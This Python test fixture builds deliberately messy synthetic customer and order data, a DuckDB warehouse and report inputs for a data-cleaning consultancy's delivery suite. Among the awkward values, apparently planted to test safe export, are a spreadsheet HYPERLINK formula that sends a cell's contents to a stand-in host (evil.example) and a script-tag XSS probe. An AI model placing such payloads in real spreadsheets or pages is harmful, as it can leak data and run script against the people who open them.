"""One believable delivery for the whole suite: Brightwater Kitchens' customers and orders.

Every column is awkward on purpose: names with blanks around, dates in three notations of which
some could be read two ways, amounts with a currency sign, phones that look like formulas, a note
that *is* a formula, a code list in several cases, a column nobody mapped, a file behind a password.
The warehouse is a real one, made by plain SQL in place of dbt; the counts are taken from it.
"""

from __future__ import annotations

import hashlib
import random
from datetime import UTC, date, datetime, timedelta
from typing import TYPE_CHECKING

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq

from consulting.delivery import (
    Consultancy,
    DeliveryInputs,
    DeliverySummary,
    TableExport,
)
from consulting.errors import TierBlockedError
from consulting.layout import ClientFolder
from consulting.profiling import (
    DriftFinding,
    FeedProfile,
    Score,
    ScorePart,
    delivery_score,
    profile_feed,
)
from consulting.records import (
    CheckOutcome,
    ColumnMapping,
    FeedAccount,
    FileReading,
    ModelOutcome,
    QuarantinedFile,
    SkippedLines,
    Step,
)

if TYPE_CHECKING:
    from pathlib import Path

CLIENT = "brightwater"
DELIVERY = "brightwater-2026-10-0007"
RECEIVED_AT = datetime(2026, 11, 3, 6, 12, 9, tzinfo=UTC)
CUSTOMERS_FILE = "customers_2026-10.csv"
ORDERS_FILE = "orders_2026-10.xlsx"
CUSTOMERS_SHA = hashlib.sha256(b"customers").hexdigest()
ORDERS_SHA = hashlib.sha256(b"orders").hexdigest()
CUSTOMERS = 1_204
ORDERS = 5_310
UNPARSED = 3
DUPLICATE_CUSTOMERS = 41
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SCRIPT = "<script>alert('x')</script>"

CUSTOMER_COLUMNS = ("Customer No", "Full Name", "E-Mail", "Phone", "Country", "Signed up", "Notes")
ORDER_COLUMNS = (
    "Order ID",
    "Customer No",
    "Order Date",
    "Amount",
    "Status",
    "Weight",
    "Rep Code",
    "Legacy Flag",
)
_FIRST = ("Ada", "Bruno", "Chloé", "Deniz", "Emil", "Freya", "Grace", "Hugo", "Ines", "Jonas")
_LAST = ("Okafor", "Müller", "Santos", "Yildiz", "O'Neill", "Kowalska", "Haddad", "Larsen", "Ruiz")
_COUNTRIES = ("DE", "de", "FR", "Fr", "NL", "AT", "ES", "N/A")
_STATUSES = ("shipped", "Shipped", "SHIPPED", "open", "Open", "cancelled", "returned")


def customer_rows() -> list[tuple[str | None, ...]]:
    """Text rows as intake would have loaded them, the duplicates last."""
    chance = random.Random(11)
    rows: list[tuple[str | None, ...]] = []
    for number in range(1, CUSTOMERS - UNPARSED - DUPLICATE_CUSTOMERS + 1):
        first, last = chance.choice(_FIRST), chance.choice(_LAST)
        name = f"{first} {last}"
        joined = date(2021, 1, 4) + timedelta(days=chance.randrange(2000))
        rows.append(
            (
                f"C{number:05}",
                f"  {name}" if number % 9 == 0 else name.upper() if number % 31 == 0 else name,
                None
                if number % 57 == 0
                else f"{first}.{last}{number}@Mail.example".replace("'", ""),
                f"+49 30 {chance.randrange(10**6, 10**7)}" if number % 3 else "n/a",
                chance.choice(_COUNTRIES),
                _written(joined, number),
                FORMULA
                if number == 17
                else SCRIPT
                if number == 18
                else "-12"
                if number == 19
                else None,
            )
        )
    rows[400] = ("C00401", "Grace Ruiz", "grace.ruiz", "+49 30 1234567", "DE", "31/31/2024", None)
    rows += rows[:DUPLICATE_CUSTOMERS]
    return rows


def order_rows() -> list[tuple[str | None, ...]]:
    """Orders, some of customers that do not exist, some with amounts that are none."""
    chance = random.Random(12)
    rows: list[tuple[str | None, ...]] = []
    for number in range(1, ORDERS + 1):
        bought = date(2026, 10, 1) + timedelta(days=chance.randrange(31))
        amount = round(min(chance.lognormvariate(4.2, 0.8), 1900), 2)
        text = f"€ {amount:,.2f}" if number % 4 else f"{amount:.2f}".replace(".", ",")
        text = "tbc" if number % 59 == 0 else text
        rows.append(
            (
                f"{number:07}",
                f"C{chance.randrange(1, 1150):05}" if number % 211 else f"X{number:05}",
                None if number % 127 == 0 else _written(bought, number),
                text,
                chance.choice(_STATUSES),
                f"{chance.randrange(200, 9000)} g"
                if number % 5
                else f"{chance.randrange(1, 9)} kg",
                chance.choice(("007", "012", "101", None)),
                "N",
            )
        )
    return rows


def _written(day: date, number: int) -> str:
    if number % 10 == 0:
        return f"{day:%m/%d/%Y}"
    return f"{day:%d.%m.%Y}" if number % 3 == 0 else day.isoformat()


def make_folder(root: Path) -> ClientFolder:
    """Make the client's folder, its warehouse and its run folder."""
    folder = ClientFolder(root, CLIENT)
    folder.path.mkdir(parents=True)
    connection = duckdb.connect(str(folder.warehouse))
    connection.execute("CREATE SCHEMA raw")
    for reading, rows in zip(READINGS, (customer_rows(), order_rows()), strict=True):
        _load_raw(connection, folder, reading, rows)
    for statement in _SQL.split(";\n"):
        if statement.strip():
            connection.execute(statement)
    connection.close()
    rejects = folder.run(DELIVERY) / "rejects"
    rejects.mkdir(parents=True)
    lines = (301, 644, 1_203)
    pq.write_table(
        pa.table(
            {
                "_file": [CUSTOMERS_FILE] * UNPARSED,
                "_row": pa.array(lines, pa.int64()),
                "_reason": ["too_many_fields"] * UNPARSED,
                "_raw": [f"C9{line};Extra;;;;;;;surplus" for line in lines],
            }
        ),
        rejects / f"{CUSTOMERS_SHA[:12]}.parquet",
    )
    return folder


def _load_raw(
    connection: duckdb.DuckDBPyConnection,
    folder: ClientFolder,
    reading: FileReading,
    rows: list[tuple[str | None, ...]],
) -> None:
    table = pa.table(
        {
            **{
                name: pa.array([row[position] for row in rows], pa.string())
                for position, name in enumerate(reading.columns)
            },
            "_file": pa.array([reading.filename] * len(rows), pa.string()),
            "_row": pa.array(range(2, len(rows) + 2), pa.int64()),
        }
    )
    parquet = folder.run(DELIVERY) / str(reading.rows_path)
    parquet.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(table, parquet)
    connection.execute(
        f"CREATE TABLE raw.{reading.feed} AS "
        f"SELECT *, _row - 1 AS _row_id FROM read_parquet('{parquet}')"
    )


_DATE = """coalesce(
    try_strptime("{0}", '%Y-%m-%d'), try_strptime("{0}", '%d.%m.%Y'),
    try_strptime("{0}", '%m/%d/%Y')
)::DATE"""
_SQL = f"""
CREATE SCHEMA marts; CREATE SCHEMA rejects; CREATE SCHEMA intermediate;
CREATE TABLE intermediate.stg_customers AS SELECT
  "Customer No" AS customer_no, trim("Full Name") AS full_name, lower("E-Mail") AS email,
  CASE WHEN lower("Phone") <> 'n/a'
       THEN '+' || regexp_replace("Phone", '[^0-9]', '', 'g') END AS phone,
  CASE WHEN "Country" = 'N/A' THEN NULL ELSE upper("Country") END AS country,
  {_DATE.format("Signed up")} AS signed_up_on, "Notes" AS notes, _file, _row, _row_id,
  CASE WHEN "Signed up" IS NOT NULL AND {_DATE.format("Signed up")} IS NULL
       THEN 'signed_up_on:not_a_date' END AS _reason
FROM raw.customers;
CREATE TABLE marts.customers AS SELECT * EXCLUDE (_reason) FROM intermediate.stg_customers
  WHERE _reason IS NULL
  QUALIFY row_number() OVER (PARTITION BY customer_no ORDER BY _row_id) = 1;
CREATE TABLE rejects.rejects_customers AS
  SELECT r.*, s._reason, s._reason AS _reasons FROM raw.customers r
  JOIN intermediate.stg_customers s USING (_row_id) WHERE s._reason IS NOT NULL;
CREATE TABLE intermediate.stg_orders AS SELECT
  "Order ID" AS order_id, "Customer No" AS customer_no, {_DATE.format("Order Date")} AS ordered_on,
  CASE WHEN "Amount" LIKE '€%'
       THEN try_cast(replace(replace("Amount", '€ ', ''), ',', '') AS DECIMAL(12, 2))
       ELSE try_cast(replace("Amount", ',', '.') AS DECIMAL(12, 2)) END AS amount_eur,
  lower("Status") AS status,
  CASE WHEN "Weight" LIKE '%kg' THEN 1000 ELSE 1 END
       * try_cast(split_part("Weight", ' ', 1) AS INTEGER) AS weight_g,
  "Rep Code" AS rep_code, _file, _row, _row_id,
  concat_ws(';', CASE WHEN "Order Date" IS NULL THEN 'ordered_on:missing' END,
    CASE WHEN "Amount" = 'tbc' THEN 'amount_eur:not_an_amount' END,
    CASE WHEN "Customer No" LIKE 'X%' THEN 'row:unknown_customer' END) AS _reasons
FROM raw.orders;
CREATE TABLE marts.orders AS
  SELECT * EXCLUDE (_reasons) FROM intermediate.stg_orders WHERE _reasons = '';
CREATE TABLE rejects.rejects_orders AS
  SELECT r.*, split_part(s._reasons, ';', 1) AS _reason, s._reasons FROM raw.orders r
  JOIN intermediate.stg_orders s USING (_row_id) WHERE s._reasons <> '';
"""

READINGS = (
    FileReading(
        filename=CUSTOMERS_FILE,
        feed="customers",
        sha256=CUSTOMERS_SHA,
        size_bytes=118_204,
        format="csv",
        encoding="cp1252",
        delimiter=";",
        quotechar='"',
        header_lines=(3,),
        columns=CUSTOMER_COLUMNS,
        received_rows=CUSTOMERS,
        loaded_rows=CUSTOMERS - UNPARSED,
        unparsed_rows=UNPARSED,
        skipped=(
            SkippedLines(first_line=1, last_line=2, reason="a title above the header"),
            SkippedLines(first_line=1_207, last_line=1_207, reason="a totals row"),
        ),
        decisions=(
            "The text is in the Windows encoding (cp1252), or names would not be readable.",
            "The separator is “;”: every line then has seven fields.",
        ),
        warnings=("Line 1,207 looks like a totals row and was left out. Is that right?",),
        rows_path=f"rows/{CUSTOMERS_SHA[:12]}.parquet",
        rejects_path=f"rejects/{CUSTOMERS_SHA[:12]}.parquet",
    ),
    FileReading(
        filename=ORDERS_FILE,
        feed="orders",
        sha256=ORDERS_SHA,
        size_bytes=402_118,
        format="xlsx",
        sheet="Orders",
        header_lines=(1,),
        columns=ORDER_COLUMNS,
        received_rows=ORDERS,
        loaded_rows=ORDERS,
        decisions=("The sheet “Orders” was read; the hidden sheet “Pivot” was not.",),
        rows_path=f"rows/{ORDERS_SHA[:12]}.parquet",
    ),
)

QUARANTINED = (
    QuarantinedFile(
        filename="orders_2026-09_corrected.xlsx",
        feed="orders",
        sha256=hashlib.sha256(b"locked").hexdigest(),
        size_bytes=88_064,
        code="password_protected",
        reason="The workbook is protected with a password, so we can not open it.",
        fix="Save it without a password and drop it again, or tell us the password by telephone.",
    ),
)

REASONS = {
    "too_many_fields": "the line has more fields than the header",
    "signed_up_on:not_a_date": "“Signed up” is not a date",
    "ordered_on:missing": "the order has no date",
    "amount_eur:not_an_amount": "“Amount” is not an amount of money",
    "row:unknown_customer": "the customer is not in the customers file",
    "same customer_no, first kept": "same customer number, the first kept",
}


def accounts() -> tuple[FeedAccount, ...]:
    """The accounts as the cleaning room would count them in this warehouse."""
    return (
        FeedAccount(
            feed="customers",
            table="customers",
            received=1_204,
            delivered=1_159,
            rejected={"too_many_fields": 3, "signed_up_on:not_a_date": 1},
            merged={"same customer_no, first kept": 41},
        ),
        FeedAccount(
            feed="orders",
            table="orders",
            received=5_310,
            delivered=5_154,
            rejected={
                "ordered_on:missing": 41,
                "amount_eur:not_an_amount": 90,
                "row:unknown_customer": 25,
            },
            merged={},
        ),
    )


_DATES_READ = "read as 2024-12-31, 31.12.2024 or 12/31/2024"
_MONEY_READ = "currency sign removed; comma or point read as the decimal mark"
_COLUMNS = (
    # feed, source column, target column, type, rule, transformation, tests
    ("customers", "Customer No", "customer_no", "VARCHAR", "to_text", "trimmed", "unique not_null"),
    ("customers", "Full Name", "full_name", "VARCHAR", "to_text", "trimmed", "not_null"),
    ("customers", "E-Mail", "email", "VARCHAR", "to_email", "made lower case", ""),
    ("customers", "Phone", "phone", "VARCHAR", "to_phone", "written as + and digits", ""),
    ("customers", "Country", "country", "VARCHAR", "to_code", "capitals", "accepted_values"),
    ("customers", "Signed up", "signed_up_on", "DATE", "to_date", _DATES_READ, "not_null"),
    ("customers", "Notes", "notes", "VARCHAR", "to_text", "", ""),
    ("orders", "Order ID", "order_id", "VARCHAR", "to_text", "zeros kept", "unique not_null"),
    ("orders", "Customer No", "customer_no", "VARCHAR", "to_text", "", "relationships"),
    ("orders", "Order Date", "ordered_on", "DATE", "to_date", _DATES_READ, "not_null"),
    ("orders", "Amount", "amount_eur", "DECIMAL(12,2)", "to_money", _MONEY_READ, "not_negative"),
    ("orders", "Status", "status", "VARCHAR", "to_code", "made lower case", "accepted_values"),
    ("orders", "Weight", "weight_g", "INTEGER", "sql", "kilograms turned into grams", ""),
)
MAPPINGS = (
    *(
        ColumnMapping(
            feed=feed,
            source_columns=(source,),
            target_table=feed,
            target_column=target,
            target_type=kind,
            rule=rule,
            transformation=words,
            required="not_null" in tests,
            tests=tuple(tests.split()),
        )
        for feed, source, target, kind, rule, words, tests in _COLUMNS
    ),
    ColumnMapping(
        feed="orders",
        source_columns=("Legacy Flag",),
        dropped_because="It holds the same value in every row.",
    ),
)
"""The order's "Rep Code" is in none of them: the one column nobody has decided about."""

CHECKS = (
    *(
        CheckOutcome(
            unique_id=f"test.{mapping.feed}.{mapping.target_column}.{test}",
            name=f"{test}_{mapping.feed}_{mapping.target_column}",
            model=mapping.feed,
            column=mapping.target_column,
            severity="error",
            status="pass",
            failing_rows=0,
            description={
                "unique": "No value appears twice",
                "not_null": "No value is missing",
                "accepted_values": "Every value is on the agreed list",
                "relationships": "Every customer of an order exists",
                "not_negative": "No amount is below zero",
            }[test],
        )
        for mapping in MAPPINGS
        for test in mapping.tests
    ),
    CheckOutcome(
        unique_id="test.orders.weight_g.between",
        name="between_orders_weight_g",
        model="orders",
        column="weight_g",
        severity="warn",
        status="warn",
        failing_rows=128,
        stored_in="dbt_test.between_orders_weight_g",
        description="A parcel weighs between 100 g and 30 kg",
    ),
)

MODELS = tuple(
    ModelOutcome(
        name=name,
        layer=layer,
        relation=f"{layer}.{name}",
        rows=rows,
        columns=(),
        status="success",
    )
    for name, layer, rows in (
        ("stg_customers", "staging", 1_201),
        ("stg_orders", "staging", 5_310),
        ("customers", "marts", 1_159),
        ("orders", "marts", 5_154),
    )
)

STEPS = (
    Step(
        stage="cleaned",
        feed="customers",
        subject="stg_customers",
        operation="rename, trim and cast",
        rows_before=1_201,
        rows_after=1_201,
        values_changed=2_410,
        detail="7 columns",
    ),
    Step(
        stage="cleaned",
        feed="customers",
        subject="customers",
        operation="remove duplicates by customer_no",
        rows_before=1_200,
        rows_after=1_159,
        rows_merged=41,
    ),
)

HISTORY = tuple(
    DeliverySummary(
        delivery_id=f"{CLIENT}-2026-{month:02}-{number:04}",
        client_id=CLIENT,
        period=f"2026-{month:02}",
        received_at=datetime(2026, month + 1, 3, 6, 10, tzinfo=UTC),
        tier=3,
        score=score,
        received=received,
        delivered=received - rejected - merged,
        rejected=rejected,
        merged=merged,
        findings={"error": errors, "warn": 9, "info": 6},
        tests_passed=16,
        tests_warned=warned,
    )
    for number, (month, score, received, rejected, merged, errors, warned) in enumerate(
        (
            (5, 71.2, 5_902, 402, 12, 5, 3),
            (6, 74.8, 6_020, 377, 15, 5, 3),
            (7, 73.9, 5_744, 391, 22, 4, 2),
            (8, 79.4, 6_133, 260, 18, 3, 2),
            (9, 82.6, 6_381, 214, 36, 3, 1),
        ),
        start=2,
    )
)

TABLES = (
    TableExport(table="customers", feed="customers", formats=("parquet", "csv", "xlsx")),
    TableExport(table="orders", feed="orders", formats=("parquet", "csv")),
)

CONSULTANCY = Consultancy(
    name="Lindqvist & Partners",
    tagline="Data you can decide on",
    contact="Maja Lindqvist, +46 8 555 010 20",
)


SCORE = Score(
    value=85.1,
    parts=(
        ScorePart(name="complete", weight=25, value=86.9, good=44_310, total=50_990),
        ScorePart(name="valid", weight=30, value=98.1, good=43_468, total=44_310),
        ScorePart(name="consistent", weight=20, value=45.1, good=19_984, total=44_310),
        ScorePart(name="unique", weight=15, value=99.4, good=6_470, total=6_511),
        ScorePart(name="readable", weight=10, value=99.9, good=6_511, total=6_514),
    ),
)
DRIFT = (
    DriftFinding(
        feed="orders",
        column="Weight",
        kind="new_column",
        severity="warn",
        detail="The column “Weight” is in the file for the first time.",
        recommendation="Decide whether it is delivered; the lines below would do it.",
        patch="+      - name: weight\n+        meta: {from: Weight, rule: to_decimal}\n",
    ),
    DriftFinding(
        feed="customers",
        kind="volume_surge",
        severity="info",
        detail="1,204 rows, three times as many as in the last file.",
        measure="rows now / rows before",
        value=3.0134,
        threshold=2.0,
        recommendation="Check that the file does not hold several months.",
    ),
)


def profiles(folder: ClientFolder) -> tuple[FeedProfile, ...]:
    """The profiles that `profiled` would have made of the files."""
    run = folder.run(DELIVERY)
    return tuple(profile_feed(reading.feed, [reading], run) for reading in READINGS)


def make_inputs(**changes: object) -> DeliveryInputs:
    """The delivery at tier 3, with fields replaced where a test wants it otherwise."""
    values: dict[str, object] = {
        "delivery_id": DELIVERY,
        "client_id": CLIENT,
        "client_name": "Brightwater Kitchens",
        "engagement_type": "recurring",
        "tier": 3,
        "period": "2026-10",
        "received_at": RECEIVED_AT,
        "consultancy": CONSULTANCY,
        "files": READINGS,
        "quarantined": QUARANTINED,
        "score": delivery_score(SCORE, accounts()),
        "drift": DRIFT,
        "models": MODELS,
        "checks": CHECKS,
        "accounts": accounts(),
        "mappings": MAPPINGS,
        "steps": STEPS,
        "history": HISTORY,
        "reasons": REASONS,
        "versions": {"consulting": "0.1.0", "dbt": "1.11.16", "duckdb": "2.0.0"},
        "code_fingerprints": {
            stage: hashlib.sha256(stage.encode()).hexdigest()
            for stage in ("file_received", "profiled", "cleaned", "validated", "delivered")
        },
        "dbt_fingerprint": hashlib.sha256(b"dbt").hexdigest(),
        "config": {
            "security_tier": 3,
            "source": {"type": "s3", "bucket": "our-bucket", "endpoint_url": "http://our.host:1"},
            "feeds": [
                {"name": "customers", "files": "customers*", "password_variable": "OUR_VARIABLE"},
                {"name": "orders", "files": "orders*", "password_variable": None},
            ],
        },
    }
    return DeliveryInputs.model_validate({**values, **changes})


def at_tier(inputs: DeliveryInputs, tier: int) -> DeliveryInputs:
    """The same engagement as it would come out at another tier."""
    if tier == 3:
        return inputs
    blocked = (str(TierBlockedError("store full rows of feed 'orders'", 3, CLIENT, tier)),)
    if tier == 2:
        files = tuple(
            reading.model_copy(
                update={
                    "sampled_from": 50 * reading.received_rows,
                    "masked_columns": ("Full Name", "E-Mail", "Phone")
                    if reading.feed == "customers"
                    else (),
                }
            )
            for reading in inputs.files
        )
        changes = {"tier": 2, "files": files, "blocked": blocked}
        return inputs.model_copy(update=changes)
    headers = tuple(
        profile.model_copy(update={"basis": "headers", "row_count": 0, "issues": ()})
        for profile in inputs.profiles
    )
    files = tuple(
        reading.model_copy(
            update={
                "received_rows": 0,
                "loaded_rows": 0,
                "unparsed_rows": 0,
                "rows_path": None,
                "rejects_path": None,
            }
        )
        for reading in inputs.files
    )
    empty = tuple(
        FeedAccount(feed=a.feed, table=a.table, received=0, delivered=0, rejected={}, merged={})
        for a in inputs.accounts
    )
    changes = {
        "tier": 1,
        "files": files,
        "profiles": headers,
        "accounts": empty,
        "score": None,
        "blocked": blocked,
    }
    return inputs.model_copy(update=changes)
